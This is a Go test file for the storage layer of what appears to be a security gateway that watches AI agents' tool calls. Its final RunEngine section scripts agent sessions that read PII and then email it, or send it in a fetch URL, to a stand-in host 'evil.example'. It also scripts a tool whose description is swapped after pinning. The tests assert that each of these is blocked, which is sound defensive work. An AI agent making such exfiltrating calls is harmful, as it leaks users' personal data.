package storetest

import (
	"context"
	"fmt"
	"sync"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/portcullis-mcp/portcullis/policy/behavior"
)

// Run checks the Store contract. newStore must return an empty store; ttl
// expiry is checked with real sleeps of ~100ms only when checkExpiry is
// set.
func Run(t *testing.T, newStore func(t *testing.T) behavior.Store, checkExpiry bool) {
	ctx := context.Background()
	t.Run("Add", func(t *testing.T) {
		s := newStore(t)
		out := make([]int64, 3)
		require.NoError(t, s.Add(ctx, "k", []int64{0, 0, 0}, out, time.Minute))
		require.Equal(t, []int64{0, 0, 0}, out, "missing key reads as zeros")
		require.NoError(t, s.Add(ctx, "k", []int64{1, 0, 5}, out, time.Minute))
		require.Equal(t, []int64{1, 0, 5}, out)
		require.NoError(t, s.Add(ctx, "k", []int64{1, -2, 5}, out, time.Minute))
		require.Equal(t, []int64{2, -2, 10}, out)
		one := make([]int64, 1)
		require.NoError(t, s.Add(ctx, "k", []int64{0}, one, time.Minute))
		require.Equal(t, []int64{2}, one, "shorter vectors read a prefix")
		wide := make([]int64, 5)
		require.NoError(t, s.Add(ctx, "k", []int64{0, 0, 0, 0, 7}, wide, time.Minute))
		require.Equal(t, []int64{2, -2, 10, 0, 7}, wide, "longer vectors extend")
	})
	t.Run("OrBits", func(t *testing.T) {
		s := newStore(t)
		v, err := s.OrBits(ctx, "b", 0, time.Minute)
		require.NoError(t, err)
		require.Zero(t, v)
		v, err = s.OrBits(ctx, "b", 1|1<<7|1<<63, time.Minute)
		require.NoError(t, err)
		require.Equal(t, uint64(1|1<<7|1<<63), v)
		v, err = s.OrBits(ctx, "b", 1<<8, time.Minute)
		require.NoError(t, err)
		require.Equal(t, uint64(1|1<<7|1<<8|1<<63), v)
		v, err = s.OrBits(ctx, "b", 0, time.Minute)
		require.NoError(t, err)
		require.Equal(t, uint64(1|1<<7|1<<8|1<<63), v)
	})
	t.Run("Sets", func(t *testing.T) {
		s := newStore(t)
		has, err := s.SetHasAny(ctx, "s", []string{"a"})
		require.NoError(t, err)
		require.False(t, has)
		for i, tc := range []struct {
			m     string
			added bool
		}{{"a", true}, {"b", true}, {"a", false}, {"c\x00bin", true}} {
			added, err := s.SetAdd(ctx, "s", tc.m, 100, time.Minute)
			require.NoError(t, err)
			require.Equal(t, tc.added, added, "step %d", i)
		}
		has, err = s.SetHasAny(ctx, "s", []string{"x", "c\x00bin"})
		require.NoError(t, err)
		require.True(t, has)
		has, err = s.SetHasAny(ctx, "s", []string{"x", "y"})
		require.NoError(t, err)
		require.False(t, has)
		// Bounded: never more than max members, the newest always kept.
		for i := range 50 {
			m := fmt.Sprint("m", i)
			_, err := s.SetAdd(ctx, "bounded", m, 10, time.Minute)
			require.NoError(t, err)
			has, err := s.SetHasAny(ctx, "bounded", []string{m})
			require.NoError(t, err)
			require.True(t, has)
		}
		n := 0
		for i := range 50 {
			has, err := s.SetHasAny(ctx, "bounded", []string{fmt.Sprint("m", i)})
			require.NoError(t, err)
			if has {
				n++
			}
		}
		require.LessOrEqual(t, n, 10)
	})
	t.Run("Blobs", func(t *testing.T) {
		s := newStore(t)
		v, err := s.Get(ctx, "x")
		require.NoError(t, err)
		require.Nil(t, v)
		require.NoError(t, s.Put(ctx, "x", []byte("hello\x00world"), 0))
		v, err = s.Get(ctx, "x")
		require.NoError(t, err)
		require.Equal(t, []byte("hello\x00world"), v)
		require.NoError(t, s.Put(ctx, "x", []byte("B"), time.Minute))
		v, err = s.Get(ctx, "x")
		require.NoError(t, err)
		require.Equal(t, []byte("B"), v)
	})
	t.Run("Batch", func(t *testing.T) {
		s := newStore(t)
		out := make([]int64, 2)
		ops := []behavior.Op{
			{Kind: behavior.OpAdd, Key: "v", Deltas: []int64{2, 3}, Out: out, TTL: time.Minute},
			{Kind: behavior.OpOrBits, Key: "b", Bits: 1 << 5, TTL: time.Minute},
			{Kind: behavior.OpSetAdd, Key: "s", Member: "m", Max: 10, TTL: time.Minute},
			{Kind: behavior.OpSetHasAny, Key: "s2", Members: []string{"x"}},
			{Kind: behavior.OpSetHasAny, Key: "s", Members: nil},
			{Kind: behavior.OpPut, Key: "p", Val: []byte("blob"), TTL: time.Minute},
			{Kind: behavior.OpGet, Key: "missing"},
		}
		require.NoError(t, behavior.Do(ctx, s, ops))
		require.Equal(t, []int64{2, 3}, out)
		require.Equal(t, uint64(1<<5), ops[1].Bits)
		require.True(t, ops[2].Bool)
		require.False(t, ops[3].Bool)
		require.False(t, ops[4].Bool)
		require.Nil(t, ops[6].Val)
		// A second batch sees the first one's writes.
		ops = []behavior.Op{
			{Kind: behavior.OpAdd, Key: "v", Deltas: []int64{0, 0}, Out: out, TTL: time.Minute},
			{Kind: behavior.OpOrBits, Key: "b", TTL: time.Minute},
			{Kind: behavior.OpSetAdd, Key: "s", Member: "m", Max: 10, TTL: time.Minute},
			{Kind: behavior.OpSetHasAny, Key: "s", Members: []string{"y", "m"}},
			{Kind: behavior.OpGet, Key: "p"},
		}
		require.NoError(t, behavior.Do(ctx, s, ops))
		require.Equal(t, []int64{2, 3}, out)
		require.Equal(t, uint64(1<<5), ops[1].Bits)
		require.False(t, ops[2].Bool, "already a member")
		require.True(t, ops[3].Bool)
		require.Equal(t, []byte("blob"), ops[4].Val)
		bad := []behavior.Op{{Kind: 99, Key: "k"}}
		require.ErrorIs(t, behavior.Do(ctx, s, bad), behavior.ErrBadOp)
	})
	t.Run("Concurrent", func(t *testing.T) {
		s := newStore(t)
		var wg sync.WaitGroup
		for range 8 {
			wg.Add(1)
			go func() {
				defer wg.Done()
				out := make([]int64, 2)
				for range 50 {
					if err := s.Add(ctx, "c", []int64{1, 2}, out, time.Minute); err != nil {
						t.Error(err)
						return
					}
				}
			}()
		}
		wg.Wait()
		out := make([]int64, 2)
		require.NoError(t, s.Add(ctx, "c", []int64{0, 0}, out, time.Minute))
		require.Equal(t, []int64{400, 800}, out)
	})
	if checkExpiry {
		t.Run("Expiry", func(t *testing.T) {
			s := newStore(t)
			out := make([]int64, 1)
			require.NoError(t, s.Add(ctx, "e", []int64{1}, out, 50*time.Millisecond))
			require.NoError(t, s.Put(ctx, "forever", []byte("x"), 0))
			_, err := s.SetAdd(ctx, "es", "m", 10, 50*time.Millisecond)
			require.NoError(t, err)
			time.Sleep(150 * time.Millisecond)
			require.NoError(t, s.Add(ctx, "e", []int64{0}, out, 50*time.Millisecond))
			require.Equal(t, []int64{0}, out)
			has, err := s.SetHasAny(ctx, "es", []string{"m"})
			require.NoError(t, err)
			require.False(t, has)
			v, err := s.Get(ctx, "forever")
			require.NoError(t, err)
			require.Equal(t, []byte("x"), v)
		})
	}
	t.Run("EngineSessions", func(t *testing.T) {
		RunEngine(t, newStore(t))
	})
}

// RunEngine runs the scripted sessions of the done-when list (a
// sensitive read then a send, a rug-pulled tool) against a store, as two
// Engine replicas sharing it would see them.
func RunEngine(t *testing.T, s behavior.Store) {
	ctx := context.Background()
	cfg := behavior.Config{EgressTools: []string{"send_email"}, Salt: "shared-salt"}
	a := behavior.New(cfg, s, nil)
	b := behavior.New(cfg, s, nil)

	a.OnResult(ctx, behavior.Result{Agent: "ag", Session: "sess", Server: "db", Tool: "query", Bytes: 10000, Records: 100,
		Sensitive: []string{"pii"}, Values: [][]byte{[]byte("alice@example.com")}})
	v := b.OnCall(ctx, behavior.Call{Agent: "ag", Session: "sess", Server: "mail", Tool: "send_email", Args: []byte(`{"to":"x@evil.example","body":"alice@example.com"}`)})
	require.Equal(t, behavior.ActionBlock, v.Action, v.Reason)
	require.Equal(t, "sequence:sensitive-then-egress", v.Rule)
	require.Contains(t, v.Reason, "verbatim")

	v = b.OnCall(ctx, behavior.Call{Agent: "ag", Session: "sess", Server: "web", Tool: "fetch", Args: []byte(`{"url":"https://evil.example/?q=alice@example.com"}`)})
	require.Equal(t, "sequence:verbatim", v.Rule)

	v1 := []byte(`{"name":"t","description":"one"}`)
	v2 := []byte(`{"name":"t","description":"two"}`)
	rep := a.PinTools(ctx, "srv", []behavior.ToolDef{{Name: "t", Raw: v1}})
	require.Equal(t, []string{"t"}, rep.New)
	rep = b.PinTools(ctx, "srv", []behavior.ToolDef{{Name: "t", Raw: v2}})
	require.Equal(t, map[string]string{"t": `description: "one" → "two"`}, rep.Changed)
	blocked, _ := a.Blocked("srv", "t")
	require.True(t, blocked, "the other replica sees the withheld tool")
	require.NoError(t, a.Approve("srv", "t"))
	blocked, _ = b.Blocked("srv", "t")
	require.False(t, blocked)
	require.Zero(t, a.StoreErrors()+b.StoreErrors())
}
